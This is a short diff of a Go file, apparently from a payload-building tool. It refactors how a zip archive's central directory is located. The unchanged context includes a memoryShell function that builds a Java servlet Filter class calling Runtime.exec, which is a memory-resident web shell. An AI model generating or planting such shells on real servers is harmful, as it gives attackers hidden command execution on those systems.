@@ -206,7 +206,10 @@ func (h *heap) array(b []byte) {
 }
 
 // opened is the directory of an archive as Java keeps it.
-func (h *heap) opened(archive []byte) { h.array(archive[bytes.Index(archive, []byte("PK\x01\x02")):]) }
+func (h *heap) opened(archive []byte) {
+	_, directory, _ := bytes.Cut(archive, []byte("PK\x01\x02"))
+	h.array(append([]byte("PK\x01\x02"), directory...))
+}
 
 func memoryShell() []byte {
 	return classFile("x/Probe", "java/lang/Object", []string{"javax/servlet/Filter"}, "java/lang/Runtime", "exec")
